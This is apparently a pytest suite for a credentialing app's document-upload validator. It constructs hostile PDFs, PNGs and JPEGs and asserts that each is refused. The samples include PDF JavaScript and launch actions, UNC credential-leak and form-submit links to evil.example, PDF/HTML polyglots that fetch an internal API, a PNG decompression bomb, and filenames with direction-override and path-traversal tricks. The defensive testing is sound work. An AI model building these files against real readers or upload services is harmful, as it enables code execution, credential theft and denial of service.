"""Uploaded documents are parsed, not sniffed: what could run, or read as a page, is never stored.

Each hostile file is built for real here, the way an attacker would make it, and sent through
the upload page and the JSON API alike.
"""

import hashlib
import io
import stat
import struct
import time
import zipfile
import zlib
from pathlib import Path

import pytest
import sqlalchemy as sa
from PIL import ExifTags, Image
from PIL.PngImagePlugin import PngInfo
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)
from werkzeug.http import parse_options_header

from agency import create_app
from agency.credentials.models import Document
from agency.extensions import db
from tests import factories
from tests.factories import files

JAVASCRIPT = "carries JavaScript"
LAUNCH = "carries a launch action"
EMBEDDED = "carries an embedded file"
MARKUP = "carries HTML or script inside"
UNREADABLE_PDF = "could not be read as a PDF"


def name(value: str) -> NameObject:
    return NameObject(value)


def action(kind: str, **entries) -> DictionaryObject:
    made = DictionaryObject({name("/Type"): name("/Action"), name("/S"): name(kind)})
    made.update({name("/" + key): value for key, value in entries.items()})
    return made


def pdf_with(change) -> bytes:
    """A one-page PDF that change(writer, page) has added something to."""
    writer = PdfWriter()
    page = writer.add_blank_page(612, 792)
    change(writer, page)
    return files.pdf(0, writer)


def on_open(make_action):
    def change(writer, _page):
        writer.root_object[name("/OpenAction")] = make_action(writer)
    return change


def annotation(subtype: str, **entries):
    def change(writer, _page):
        made = DictionaryObject({name("/Type"): name("/Annot"), name("/Subtype"): name(subtype),
                                 name("/Rect"): ArrayObject([NumberObject(n) for n in (72, 72, 144, 144)])})
        made.update({name("/" + key): value for key, value in entries.items()})
        writer.add_annotation(0, made)
    return change


def page_opens_with_script(_writer, page):
    page[name("/AA")] = DictionaryObject({name("/O"): action("/JavaScript", JS=TextStringObject("app.alert(1)"))})


def launch_at_the_end_of_a_chain(writer):
    # Acrobat runs /Next after the harmless first action; the launch sits in an object of its own.
    launch = writer._add_object(action("/Launch", F=TextStringObject("cmd.exe")))
    return action("/GoTo", D=ArrayObject([writer.pages[0].indirect_reference, name("/Fit")]), Next=launch)


def xfa_form(writer, _page):
    writer.root_object[name("/AcroForm")] = DictionaryObject(
        {name("/Fields"): ArrayObject(), name("/XFA"): TextStringObject("xdp form")})


def html_in_a_plain_stream(writer, _page):
    # The classic PDF/HTML polyglot: a page of markup in a stream stored as written.
    stream = DecodedStreamObject()
    stream.set_data(b"<html><body><script>fetch('/api/v1/therapists')</script></body></html>")
    writer.root_object[name("/Metadata")] = writer._add_object(stream)


def html_as_image_samples(writer, page):
    # Samples stored as written are bytes in the file like any other: a browser reads the page in them.
    image = DecodedStreamObject()
    image.set_data(b"<html><body><script>fetch('/api/v1/therapists')</script></body></html>")
    image.update({name("/Type"): name("/XObject"), name("/Subtype"): name("/Image"), name("/Width"): NumberObject(72),
                  name("/Height"): NumberObject(1), name("/ColorSpace"): name("/DeviceGray"),
                  name("/BitsPerComponent"): NumberObject(8)})
    page[name("/Resources")] = DictionaryObject(
        {name("/XObject"): DictionaryObject({name("/Im0"): writer._add_object(image)})})


def html_in_the_header_comment() -> bytes:
    clean = files.pdf()
    binary_comment = clean.split(b"\n")[1]  # "%" and four high bytes, which mark the file as binary
    return clean.replace(binary_comment, b"%<svg", 1)  # same length: offsets stay right


def script_in_an_old_revision() -> bytes:
    # An object after the end that pypdf's cross-reference table does not list, but a reader
    # rebuilding a damaged table would find; the name is hex-escaped, as obfuscators do.
    return files.pdf() + b"5 0 obj\n<< /Type /Action /S /J#61vaScript /JS (app.alert\\(1\\)) >>\nendobj\n"


def pdf_with_object_stream(open_action: bytes = b"[3 0 R /Fit]") -> bytes:
    """A PDF 1.5 whose objects sit in one compressed object stream, as Word and most scanners write them.

    The catalog's OpenAction is given as written; compressed, no byte search can see what it says.
    """
    objects = [b"<< /Type /Catalog /Pages 2 0 R /OpenAction " + open_action + b" >>",
               b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"]
    offsets, body = [], b""
    for obj in objects:
        offsets.append(len(body))
        body += obj + b"\n"
    index = b" ".join(b"%d %d" % (number, offset) for number, offset in enumerate(offsets, start=1)) + b"\n"
    packed = zlib.compress(index + body)
    out = io.BytesIO()
    out.write(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    stream_at = out.tell()
    out.write(b"4 0 obj\n<< /Type /ObjStm /N 3 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
              % (len(index), len(packed)) + packed + b"\nendstream\nendobj\n")
    xref_at = out.tell()
    rows = [b"\x00\x00\x00\xff"] + [b"\x02\x00\x04" + bytes([i]) for i in range(3)]
    rows += [b"\x01" + struct.pack(">H", stream_at) + b"\x00", b"\x01" + struct.pack(">H", xref_at) + b"\x00"]
    table = zlib.compress(b"".join(rows))
    out.write(b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 2 1] /Root 1 0 R /Filter /FlateDecode /Length %d >>\n"
              b"stream\n" % len(table) + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at)
    return out.getvalue()


def zip_archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("index.html", "<p>second document</p>")
    return out.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(side: int = 20000) -> bytes:
    """A valid side×side black-and-white PNG of a few dozen kilobytes that decodes to 400 million pixels."""
    row = b"\x00" * (1 + side // 8)  # filter byte, then one bit per pixel
    packer = zlib.compressobj(9)
    pixels = b"".join(packer.compress(row * 1000) for _ in range(side // 1000)) + packer.flush()
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0))
            + png_chunk(b"IDAT", pixels) + png_chunk(b"IEND", b""))


def png_with_text(text: str) -> bytes:
    info = PngInfo()
    info.add_text("Comment", text)
    out = io.BytesIO()
    Image.new("RGB", (32, 32), (10, 120, 200)).save(out, "PNG", pnginfo=info)
    return out.getvalue()


def phone_photo() -> bytes:
    """A JPEG as a phone writes it: EXIF with the place it was taken, and bytes after the image."""
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "Phone"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (42.0, 21.0, 30.0)
    return files.jpeg(size=(120, 80), exif=exif) + b"\x00\x00trailer a gallery app appended"


REFUSED = {
    "a PDF whose document-level JavaScript runs on open": (
        lambda: pdf_with(lambda writer, _page: writer.add_open_action(JavaScript("app.alert(1)"))), JAVASCRIPT),
    "a PDF whose OpenAction is JavaScript": (
        lambda: pdf_with(on_open(lambda _w: action("/JavaScript", JS=TextStringObject("app.alert(1)")))),
        JAVASCRIPT),
    "a PDF whose JavaScript OpenAction is compressed in an object stream": (
        lambda: pdf_with_object_stream(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"), JAVASCRIPT),
    "a PDF whose page runs JavaScript when opened": (lambda: pdf_with(page_opens_with_script), JAVASCRIPT),
    "a PDF with a link to a javascript: address": (
        lambda: pdf_with(annotation("/Link", A=action("/URI", URI=TextStringObject(" JavaScript:alert(1)")))),
        JAVASCRIPT),
    "a PDF with a link to a javascript: address broken by a tab, which browsers drop": (
        lambda: pdf_with(annotation("/Link", A=action("/URI", URI=TextStringObject("java\tscript:alert(1)")))),
        JAVASCRIPT),
    "a PDF whose OpenAction opens a file on another host (leaking Windows credentials)": (
        lambda: pdf_with(on_open(lambda _w: action("/GoToR", F=TextStringObject("\\\\evil.example\\share\\x.pdf"),
                                                   D=ArrayObject([NumberObject(0), name("/Fit")])))),
        "carries an action that opens another file"),
    "a PDF whose OpenAction launches a program": (
        lambda: pdf_with(on_open(lambda _w: action("/Launch", F=TextStringObject("calc.exe")))), LAUNCH),
    "a PDF with a launch at the end of an action chain": (
        lambda: pdf_with(on_open(launch_at_the_end_of_a_chain)), LAUNCH),
    "a PDF with an embedded file": (
        lambda: pdf_with(lambda writer, _page: writer.add_attachment("payload.exe", b"MZ\x90\x00")), EMBEDDED),
    "a PDF with a file attachment annotation": (lambda: pdf_with(annotation("/FileAttachment")), EMBEDDED),
    "a PDF with a rich media annotation": (lambda: pdf_with(annotation("/RichMedia")), "carries rich media"),
    "a PDF with an XFA form": (lambda: pdf_with(xfa_form), "carries an XFA form"),
    "a PDF that submits a form on open": (
        lambda: pdf_with(on_open(lambda _w: action("/SubmitForm", F=TextStringObject("https://evil.example/")))),
        "sends or imports data"),
    "a PDF that imports form data on open": (
        lambda: pdf_with(on_open(lambda _w: action("/ImportData", F=TextStringObject("data.fdf")))),
        "sends or imports data"),
    "an encrypted PDF": (
        lambda: pdf_with(lambda writer, _page: writer.encrypt("secret")), "is an encrypted PDF"),
    "a file that starts like a PDF but is not one": (
        lambda: b"%PDF-1.7\n1 0 obj << /Type /Catalog >>\nnot a pdf at all", UNREADABLE_PDF),
    "the old test suite's PDF with no page tree or cross-references": (
        lambda: b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n", UNREADABLE_PDF),
    "a PDF hiding an obfuscated script object the parser does not list": (script_in_an_old_revision, JAVASCRIPT),
    "a PDF/HTML polyglot with markup in its header comment": (html_in_the_header_comment, MARKUP),
    "a PDF/HTML polyglot with a page of markup in a plain stream": (lambda: pdf_with(html_in_a_plain_stream), MARKUP),
    "a PDF with HTML after its end": (lambda: files.pdf() + b"\n<!DOCTYPE html><p>hi</p>", MARKUP),
    "a PDF/HTML polyglot with a page of markup as an image's samples": (
        lambda: pdf_with(html_as_image_samples), MARKUP),
    "a PDF/HTML polyglot with a page of markup in a stream no table lists": (
        lambda: files.pdf() + b"9 0 obj\n<< /Length 41 >>\nstream\n<html><script>alert(1)</script></html>\n"
                              b"endstream\nendobj\n", MARKUP),
    "a PDF/HTML polyglot whose image tag runs script": (
        lambda: files.pdf() + b"\n<img src=x onerror=fetch('/api/v1/therapists')>\n", MARKUP),
    "a PDF/HTML polyglot whose meta tag sends the browser elsewhere": (
        lambda: files.pdf() + b"\n<meta http-equiv=refresh content='0;url=https://evil.example/'>\n", MARKUP),
    "a PDF/HTML polyglot with a handler on a tag of any name": (
        lambda: files.pdf() + b"\n<p id=x tabindex=1 onfocus=alert(1) autofocus>\n", MARKUP),
    "a PDF with a ZIP archive after its end": (lambda: files.pdf() + zip_archive(), "is also a ZIP archive"),
    "a 20000 x 20000 PNG decompression bomb": (png_bomb, "is larger than 40,000,000 pixels"),
    "a PNG carrying HTML in a text chunk": (lambda: png_with_text("<html><body onload=alert(1)>"), MARKUP),
    "a PNG with a script after its end": (lambda: files.png() + b"<script>alert(1)</script>", MARKUP),
    "a PNG with a ZIP archive after its end": (lambda: files.png() + zip_archive(), "is also a ZIP archive"),
    "a truncated PNG": (lambda: files.png((200, 200))[:90], "could not be read as a PNG image"),
    "a JPEG carrying a script in its comment": (lambda: files.jpeg(comment=b"<script>alert(1)</script>"), MARKUP),
    "a JPEG with an iframe after its end": (lambda: files.jpeg() + b"<iframe src=//evil.example>", MARKUP),
}


def stored_files(app) -> set:
    return {path for path in app.config["UPLOAD_PATH"].rglob("*") if path.is_file()}


@pytest.fixture(params=["page", "api"])
def upload(request, browser, api):
    """upload(content, filename) through the upload page or the JSON API: (created, error message)."""
    person = factories.therapist()
    page_user = browser("credentialing") if request.param == "page" else None
    api_user = api("credentialing") if request.param == "api" else None

    def send(content: bytes, filename: str):
        data = {"doc_type": "bls_card", "file": (io.BytesIO(content), filename)}
        if page_user:
            url = f"/therapists/{person.id}/documents/new"
            response = page_user.post(url, data, content_type="multipart/form-data")
            return response.status_code == 302, response.get_data(as_text=True)
        response = api_user.post(f"/api/v1/therapists/{person.id}/documents", data=data,
                                 content_type="multipart/form-data")
        if response.status_code == 201:
            return True, None
        assert response.status_code == 400, response.get_data(as_text=True)
        return False, " ".join(response.json["error"]["fields"]["file"])

    send.channel = request.param
    send.downloader = page_user or api_user
    return send


@pytest.mark.parametrize("case", REFUSED)
def test_a_hostile_or_broken_file_is_refused_with_a_clear_error_and_nothing_is_stored(case, upload, app):
    make, message = REFUSED[case]
    before = stored_files(app)
    created, error = upload(make(), "bls-card.pdf")
    assert not created
    assert message in error, error
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Document)) == 0
    assert stored_files(app) == before


def test_a_decompression_bomb_is_refused_from_its_header_without_decoding_it(upload):
    bomb = png_bomb()
    started = time.monotonic()
    created, error = upload(bomb, "scan.png")
    # Decoding 400 million pixels takes seconds and hundreds of megabytes; reading a header does not.
    assert not created and "larger than" in error and time.monotonic() - started < 2


def test_the_pixel_cap_comes_from_configuration(upload, setting):
    setting(MAX_IMAGE_PIXELS=2000)
    created, error = upload(files.png((64, 40)), "card.png")
    assert not created and "is larger than 2,000 pixels" in error
    assert upload(files.png((50, 40)), "card.png")[0]


def test_a_pdf_longer_than_the_page_cap_is_refused(upload, setting):
    setting(MAX_PDF_PAGES=3)
    created, error = upload(files.pdf(pages=4), "references.pdf")
    assert not created and "has more than 3 pages" in error
    assert upload(files.pdf(pages=3), "references.pdf")[0]


def download(upload, document: Document):
    url = f"/documents/{document.id}/file" if upload.channel == "page" else f"/api/v1/documents/{document.id}/file"
    response = upload.downloader.get(url)
    assert response.status_code == 200
    return response


def attachment_name(response) -> str:
    """The name a browser saves the download under; a download is never shown in the page."""
    disposition, options = parse_options_header(response.headers["Content-Disposition"])
    assert disposition == "attachment"
    return options["filename"]


def mode(path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.mark.parametrize(("content", "uploaded_as", "stored_as", "content_type"), [
    (files.pdf(pages=2), "report.pdf.exe", "report.pdf", "application/pdf"),
    (pdf_with_object_stream(), "scan.PDF", "scan.pdf", "application/pdf"),
    (files.png(), "poly.html", "poly.png", "image/png"),
    (files.jpeg(), "bls\u202egpj.exe", "blsgpj.jpg", "image/jpeg"),
    (files.jpeg(), "../../scans/\u2066card\u2069 front.jpeg", "card front.jpg", "image/jpeg"),
], ids=["pdf named .pdf.exe", "pdf with object streams", "png named .html", "jpeg with a right-to-left override",
        "jpeg with a path"])
def test_a_clean_document_is_stored_privately_and_downloads_under_its_detected_type(
        upload, app, content, uploaded_as, stored_as, content_type):
    created, _ = upload(content, uploaded_as)
    assert created
    document = db.session.scalar(sa.select(Document))
    assert (document.filename, document.content_type) == (stored_as, content_type)

    root = app.config["UPLOAD_PATH"]
    path = root / document.storage_name[:2] / document.storage_name
    assert path.suffix == stored_as[stored_as.rindex("."):]
    assert (mode(path), mode(path.parent), mode(root)) == (0o600, 0o700, 0o700)
    stored = path.read_bytes()
    assert document.size == len(stored) and document.sha256 == hashlib.sha256(stored).hexdigest()
    if content_type == "application/pdf":
        assert stored == content  # a PDF that passes is kept as signed and sent
    else:
        assert Image.open(io.BytesIO(stored)).format == ("PNG" if content_type == "image/png" else "JPEG")

    response = download(upload, document)
    assert response.mimetype == content_type and response.data == stored
    assert attachment_name(response) == stored_as


def test_a_phone_photo_is_stored_as_pillow_wrote_it_without_its_location_or_trailer(upload):
    photo = phone_photo()
    assert Image.open(io.BytesIO(photo)).getexif().get_ifd(ExifTags.IFD.GPSInfo)
    created, _ = upload(photo, "IMG_2041.JPG")
    assert created
    document = db.session.scalar(sa.select(Document))
    stored = download(upload, document).data
    image = Image.open(io.BytesIO(stored))
    assert image.size == (120, 80) and not image.getexif() and "exif" not in image.info
    assert stored.endswith(b"\xff\xd9") and b"trailer" not in stored and b"Phone" not in stored
    assert document.size == len(stored) < len(photo)


def test_a_document_stored_before_names_were_cleaned_downloads_under_its_detected_type(upload, app):
    assert upload(files.png(), "card.png")[0]
    document = db.session.scalar(sa.select(Document))
    document.filename = "card.png\u202e.html"  # as the old upload kept it
    db.session.commit()
    assert attachment_name(download(upload, document)) == "card.png"


def test_the_sqlite_database_is_readable_by_the_app_user_only(app, tmp_path):
    if db.engine.dialect.name == "sqlite":
        database = Path(db.engine.url.database)
        log = database.with_name(database.name + "-wal")
        assert mode(database) == 0o600
        assert not log.exists() or mode(log) == 0o600  # SQLite gives its log the database's mode
    # A new database is created private before SQLite opens it; one left world-readable is tightened.
    fresh, loose = tmp_path / "fresh.db", tmp_path / "loose.db"
    loose.touch()
    loose.chmod(0o644)
    (tmp_path / "loose.db-wal").touch(mode=0o644)
    for path in (fresh, loose):
        other = create_app({"DATABASE_URL": f"sqlite:///{path}"})
        with other.app_context():
            with db.engine.begin() as conn:
                conn.execute(sa.text("CREATE TABLE note (body TEXT)"))
                conn.execute(sa.text("INSERT INTO note VALUES ('private')"))
            assert mode(path) == 0o600 and mode(path.with_name(path.name + "-wal")) == 0o600
            db.engine.dispose()
